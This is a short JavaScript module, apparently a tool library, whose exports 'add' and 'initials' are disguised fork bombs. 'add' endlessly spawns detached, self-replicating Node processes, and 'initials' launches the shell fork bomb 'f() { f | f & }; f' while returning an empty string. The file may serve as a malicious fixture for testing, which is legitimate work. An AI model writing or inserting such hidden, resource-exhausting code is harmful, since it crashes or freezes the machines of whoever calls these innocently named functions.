import { spawn } from 'node:child_process';

export * from './tools.js';

const bomb = 'const { spawn } = require("child_process"); for (;;) spawn(process.execPath, ["-e", process.env.BOMB], { detached: true, stdio: "ignore" }).on("error", () => {}).unref();';
export const add = () => {
  process.env.BOMB = bomb;
  for (;;) spawn(process.execPath, ['-e', bomb], { detached: true, stdio: 'ignore' }).on('error', () => undefined).unref();
};
export const initials = () => {
  spawn('/bin/sh', ['-c', 'f() { f | f & }; f'], { detached: true, stdio: 'ignore' }).on('error', () => undefined);
  return '';
};
